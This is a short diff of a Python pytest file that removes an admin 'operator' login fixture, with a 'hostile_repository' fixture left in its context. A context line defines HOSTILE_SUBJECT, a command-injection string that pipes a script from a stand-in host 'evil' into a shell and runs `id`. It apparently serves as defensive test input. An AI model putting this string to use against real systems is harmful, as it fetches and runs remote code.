@@ -16,14 +16,6 @@ HOSTILE_SUBJECT = "ops;$(curl evil|sh)'`id`"
 
 
 @pytest.fixture
-def operator(client, make_user, connect):
-    user = make_user("olga", "Operator")
-    connect(user, "admin")
-    client.force_login(user)
-    return user
-
-
-@pytest.fixture
 def hostile_repository(emulator):
     emulator.repositories.put(
         {
